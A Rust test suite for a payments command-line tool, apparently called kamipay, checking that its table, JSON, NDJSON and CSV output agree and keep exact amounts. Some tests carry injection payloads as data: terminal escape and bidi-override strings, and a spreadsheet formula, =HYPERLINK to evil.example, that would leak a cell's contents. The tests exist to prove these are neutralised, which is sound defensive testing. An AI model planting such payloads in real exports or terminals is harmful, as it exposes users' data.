//! Every command in every format: the same data, complete and to the digit.

use kamipay_sandbox::Generated;
use serde_json::Value;

use crate::support::{documented, generated, in_may, run, server, with_payments, with_token};

/// A day of the generated merchant, and the day of the page's confirmed charges.
const DAY: [&str; 4] = ["--from", "2026-05-14", "--to", "2026-05-14T12:00:00Z"];
const DOCUMENTED_DAY: [&str; 4] = ["--from", "2024-06-15", "--to", "2024-06-15"];

fn output(url: &str, args: &[&str], format: &str) -> String {
    let args = [args, &["--quiet", "--output", format]].concat();
    run(&mut with_token(url, &args)).good()
}

fn lists(day: [&'static str; 4]) -> Vec<Vec<&'static str>> {
    vec![
        in_may(&["lots", "list"]),
        in_may(&["settlements", "list"]),
        in_may(&["settlements", "transactions"]),
        vec!["settlements", "pending"],
        [&["charges", "confirmed"], &day[..]].concat(),
    ]
}

/// What a CSV cell is, for a JSON value.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

#[test]
fn lists_are_the_same_in_all_formats() {
    let merchant = Generated::new(11);
    for (server, day) in [(documented(), DOCUMENTED_DAY), (generated(&merchant), DAY)] {
        for list in lists(day) {
            let ndjson = output(server.base_url(), &list, "ndjson");
            let rows: Vec<Value> =
                ndjson.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
            assert!(!rows.is_empty(), "{list:?}");

            let json: Value =
                serde_json::from_str(&output(server.base_url(), &list, "json")).unwrap();
            assert_eq!(json, Value::Array(rows.clone()), "{list:?}");

            let csv = output(server.base_url(), &list, "csv");
            let mut csv = csv::Reader::from_reader(csv.as_bytes());
            let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
            assert_eq!(header.len(), rows[0].as_object().unwrap().len(), "{list:?}");
            let first = ndjson.lines().next().unwrap();
            let places: Vec<usize> = header
                .iter()
                .map(|name| {
                    first
                        .find(&format!("{{\"{name}\":"))
                        .or_else(|| first.find(&format!(",\"{name}\":")))
                        .unwrap()
                })
                .collect();
            assert!(places.is_sorted(), "{header:?} is not the order of {first}");
            let records: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
            assert_eq!(records.len(), rows.len());
            for (record, row) in records.iter().zip(&rows) {
                for (name, text) in header.iter().zip(record) {
                    assert_eq!(text, cell(&row[name]), "{name} of {row}");
                }
            }

            let table = output(server.base_url(), &list, "table");
            assert_eq!(table.lines().count(), 1 + rows.len() + 2, "{table}");
            assert!(!table.contains('\x1b'));
        }
    }
}

#[test]
fn the_digits_of_the_pages_are_kept() {
    let server = documented();
    let pending = vec!["settlements", "pending"];
    for (args, amounts) in [
        (in_may(&["lots", "list"]), &["10027.79968000", "100.00000000"][..]),
        (in_may(&["settlements", "list"]), &["1234567.89"]),
        (in_may(&["settlements", "transactions"]), &["5.28", "29750.0"]),
        (pending, &["29750.0", "39575.0", "5.28", "7.04"]),
        (
            [&["charges", "confirmed"], &DOCUMENTED_DAY[..]].concat(),
            &["25.00", "5.00000", "20.00000"],
        ),
        (
            vec!["lots", "get", "9c030c8b-6d68-445b-8048-1bacd91012fa"],
            &["0.88924200", "0.38102800"],
        ),
        (vec!["settlements", "get", "12345"], &["1234567.89", "29750.0"]),
    ] {
        for format in ["table", "json", "ndjson", "csv"] {
            let text = output(server.base_url(), &args, format);
            for amount in amounts {
                let quoted = format!("\"{amount}\"");
                let amount = if format.ends_with("json") { &quoted } else { *amount };
                assert!(text.contains(amount), "{amount} in {text}");
            }
        }
    }
}

#[test]
fn parts_are_nested_in_json_and_rows_in_csv() {
    let server = documented();
    let lot = ["lots", "get", "9c030c8b-6d68-445b-8048-1bacd91012fa"];
    let settlement = ["settlements", "get", "12345"];
    let found = in_may(&["lots", "find-payout", "txc_test_lot1_charge_002"]);
    for (name, args) in [("lot", &lot[..]), ("settlement", &settlement), ("found", &found)] {
        let json = output(server.base_url(), args, "json");
        let ndjson = output(server.base_url(), args, "ndjson");
        assert_eq!(ndjson.lines().count(), 1);
        let [a, b]: [Value; 2] = [&json, &ndjson].map(|text| serde_json::from_str(text).unwrap());
        assert_eq!(a, b);
        let csv = output(server.base_url(), args, "csv");
        insta::assert_snapshot!(format!("{name}-json"), json);
        insta::assert_snapshot!(format!("{name}-csv"), csv);
    }
}

#[test]
fn the_parts_of_a_lot_add_up_in_csv() {
    let merchant = Generated::new(11);
    let server = generated(&merchant);
    for lot in merchant.lots().filter(|lot| !lot.refunds.is_empty()).take(3) {
        let csv = output(server.base_url(), &["lots", "get", &lot.lot_id], "csv");
        let mut csv = csv::Reader::from_reader(csv.as_bytes());
        let header = csv.headers().unwrap().clone();
        let at = |name: &str| header.iter().position(|other| other == name).unwrap();
        let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1 + lot.payouts.len() + lot.refunds.len());
        let payouts = rows.iter().filter(|row| &row[at("kind")] == "payout");
        let amounts =
            payouts.map(|row| row[at("amount")].parse::<rust_decimal::Decimal>().unwrap());
        assert_eq!(amounts.sum::<rust_decimal::Decimal>(), lot.usdt_amount);
        assert!(rows.iter().all(|row| row[at("lot_id")] == lot.lot_id));
    }
}

#[test]
fn empty_lists() {
    let server = generated(&Generated::new(1));
    for command in [&["lots", "list"][..], &["settlements", "list"]] {
        let args = [command, &["--from", "2020-01-01", "--to", "2020-01-31"]].concat();
        assert_eq!(output(server.base_url(), &args, "json"), "[]\n");
        assert_eq!(output(server.base_url(), &args, "ndjson"), "");
        assert_eq!(output(server.base_url(), &args, "csv").lines().count(), 1);
        let table = output(server.base_url(), &args, "table");
        assert!(table == "0 lots\n" || table == "0 settlements\n", "{table}");
    }
}

#[test]
fn without_a_terminal_it_is_ndjson() {
    let server = documented();
    for list in lists(DOCUMENTED_DAY) {
        let default = run(&mut with_token(server.base_url(), &list)).out;
        assert_eq!(default, output(server.base_url(), &list, "ndjson"));
    }
}

#[test]
fn nothing_that_comes_in_data_moves_the_cursor() {
    let evil = "\u{1b}]0;owned\u{7}\u{202e}\u{0}\r\nx,\"y\"";
    let escaped = serde_json::to_string(evil).unwrap();
    let body = format!(
        r#"[{{"store_id":"1","checkout_id":"1","operation_id":{escaped},"tx_hash":{escaped},"brl_requested":"25.00","usdt_credited":"5.00000","external_data":{escaped},"request_datetime":"1778745600.1","credit_datetime":"1778745601.1"}}]"#
    );
    let url = server(move |_, _| (200, body.clone()));
    let args = [&["charges", "confirmed"], &DAY[..]].concat();

    let table = output(&url, &args, "table");
    assert!(table.contains(r"\u{1b}]0;owned\u{7}\u{202e}\u{0}\u{d}\u{a}x"), "{table}");
    assert!(table.chars().all(|char| char == '\n' || !char.is_control()), "{table}");
    assert!(!table.contains('\u{202e}'));
    assert_eq!(table.lines().count(), 4);

    let row: Value = serde_json::from_str(&output(&url, &args, "ndjson")).unwrap();
    assert_eq!(row["external_data"], evil);
    let csv = output(&url, &args, "csv");
    let record = csv::Reader::from_reader(csv.as_bytes()).records().next().unwrap().unwrap();
    assert_eq!(&record[6], evil);
}

/// CSV is exact for programs, and harmless in a spreadsheet where that is asked for.
#[test]
fn a_formula_in_a_name_is_text_in_a_spreadsheet() {
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
    let escaped = serde_json::to_string(evil).unwrap();
    let body = format!(
        r#"[{{"store_id":"1","checkout_id":"1","operation_id":"@SUM(1)","tx_hash":"x;=1","brl_requested":"-25.00","usdt_credited":"5.00000","external_data":{escaped},"request_datetime":"1778745600.1","credit_datetime":"1778745601.1"}}]"#
    );
    let url = server(move |_, _| (200, body.clone()));
    let list = [&["charges", "confirmed"], &DAY[..]].concat();
    let row = |more: &[&str]| {
        let csv = output(&url, &[&list, more].concat(), "csv");
        csv::Reader::from_reader(csv.as_bytes()).records().next().unwrap().unwrap()
    };
    let exact = ["1", "1", "@SUM(1)", "x;=1", "-25.00", "5.00000", evil];
    assert_eq!(row(&[]).iter().take(7).collect::<Vec<_>>(), exact);
    let harmless = format!("'{evil}");
    let harmless = ["1", "1", "'@SUM(1)", "x;'=1", "-25.00", "5.00000", &harmless];
    let with = row(&["--spreadsheet"]);
    assert_eq!(with.iter().take(7).collect::<Vec<_>>(), harmless);
    assert_eq!(
        with.iter().skip(7).collect::<Vec<_>>(),
        row(&[]).iter().skip(7).collect::<Vec<_>>()
    );
}

/// One thing is as harmless as a list.
#[test]
fn a_formula_in_one_thing_is_text_in_a_spreadsheet() {
    let get = ["settlements", "get", "12345"];
    let mut settlement: Value =
        serde_json::from_str(&output(documented().base_url(), &get, "json")).unwrap();
    settlement["settlement_message"] = "\u{feff}=1+1".into();
    settlement["charges"][0]["external_id"] = "+x".into();
    let body = settlement.to_string();
    let url = server(move |_, _| (200, body.clone()));
    let csv = |more: &[&str]| output(&url, &[&get, more].concat(), "csv");
    let harmless = csv(&["--spreadsheet"]);
    assert!(harmless.contains(",'\u{feff}=1+1,") && harmless.contains(",'+x,"), "{harmless}");
    assert!(!csv(&[]).contains('\''));
}

/// Where nothing looks like a formula, the flag changes nothing, for any command.
#[test]
fn the_flag_for_spreadsheets_keeps_the_data() {
    let server = with_payments();
    let things: [&[&str]; 5] = [
        &["lots", "get", "9c030c8b-6d68-445b-8048-1bacd91012fa"],
        &in_may(&["lots", "find-payout", "txc_test_lot1_charge_002"]),
        &["settlements", "get", "12345"],
        &["pay", "status", "--external-id", "done"],
        &["pay", "status", "--external-id", "done", "--watch"],
    ];
    let things = things.iter().map(|args| args.to_vec());
    for args in lists(DOCUMENTED_DAY).into_iter().chain(things) {
        let csv = output(server.base_url(), &args, "csv");
        let with = output(server.base_url(), &[&args[..], &["--spreadsheet"]].concat(), "csv");
        let records = |csv: &str| {
            let mut csv = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
            csv.records().map(Result::unwrap).collect::<Vec<_>>()
        };
        assert_eq!(records(&with), records(&csv), "{args:?}");
    }
}

#[test]
fn an_error_does_not_move_the_cursor_either() {
    let wrong = run(&mut with_token("http://127.0.0.1:1", &["lots", "get", "\u{1b}[2J\u{202e}x"]));
    assert!(wrong.err.contains(r"'\u{202e}x'"), "{}", wrong.err);
    assert!(!wrong.err.contains('\x1b') && !wrong.err.contains('\u{202e}'));
    let url = server(|_, _| (400, "{\"detail\": \"\\u001b[2J\\u202egone\"}".to_owned()));
    let run = run(&mut with_token(&url, &in_may(&["lots", "list"])));
    assert!(run.err.contains(r"\u{1b}[2J\u{202e}gone"), "{}", run.err);
    assert!(!run.err.contains('\x1b') && !run.err.contains('\u{202e}'));
}

#[test]
fn colour_is_for_terminals_or_on_demand() {
    let server = with_payments();
    let args = ["pay", "status", "--external-id", "done", "--output", "table"];
    let forced = |variable: &str| {
        run(with_token(server.base_url(), &args).env("CLICOLOR_FORCE", "1").env(variable, "1")).out
    };
    assert!(forced("X").contains('\x1b'));
    assert!(!run(&mut with_token(server.base_url(), &args)).out.contains('\x1b'));
}
